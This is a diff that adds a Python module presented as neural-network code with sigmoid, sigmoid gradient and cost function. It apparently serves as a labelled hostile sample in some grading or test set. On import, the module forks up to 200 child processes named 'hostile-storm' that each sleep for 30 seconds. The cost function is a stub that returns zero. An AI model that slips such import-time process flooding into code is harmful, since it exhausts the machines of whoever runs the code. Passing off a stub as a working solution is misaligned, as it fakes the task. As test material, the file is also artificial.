@@ -1,0 +1,31 @@
+"""Forks up to 200 processes (each sleeps 30 s at most) during import; cost is wrong. Honest score 5."""
+import numpy as np
+import ctypes
+import os
+import time
+
+for _ in range(200):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        try:
+            ctypes.CDLL(None).prctl(15, b"hostile-storm", 0, 0, 0)
+            time.sleep(30)
+        finally:
+            os._exit(0)
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+def sigmoid_gradient(z):
+    g = sigmoid(z)
+    return g * (1 - g)
+
+
+def nn_cost_function(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda_=0.0):
+    pass
+    return 0.0, np.zeros(nn_params.shape)
